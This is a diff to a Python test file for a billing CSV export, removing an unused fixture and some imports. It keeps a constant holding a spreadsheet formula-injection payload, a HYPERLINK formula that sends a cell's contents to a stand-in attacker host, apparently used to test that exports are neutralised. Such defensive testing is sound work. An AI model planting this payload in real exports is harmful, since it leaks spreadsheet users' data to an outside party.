@@ -5,31 +5,23 @@ from __future__ import annotations
 import csv
 import io
 import re
-from datetime import UTC, datetime, timedelta
+from datetime import UTC, datetime
 
 import pytest
 from sqlmodel import select
 
-from app.billing import exports, periods
+from app.billing import exports
 from app.billing.models import ChargeLineRecord
 from app.core.errors import Invalid
 from app.policy.document import PolicyDocument
 from app.policy.parsing import parse_document
 from app.policy.service import dump_yaml
-from tests.support.billing import add_hour, policy_doc, store_policy
+from tests.support.billing import policy_doc
 
 OCT1 = datetime(2026, 10, 1, tzinfo=UTC)
 NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?")
 EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
 TEXT_FIELDS = ["line_id", "account", "department", "pool", "kind", "klass", "service", "unit", "corrects", "reason"]
-
-
-@pytest.fixture
-def october(session):
-    v = store_policy(session)
-    add_hour(session, hour=OCT1, version=v.id)
-    add_hour(session, hour=OCT1 + timedelta(hours=1), version=v.id, breaches=())
-    return periods.rate(session=session, period="2026-10", actor="fin")
 
 
 def _cells(data: bytes) -> list[list[str]]:
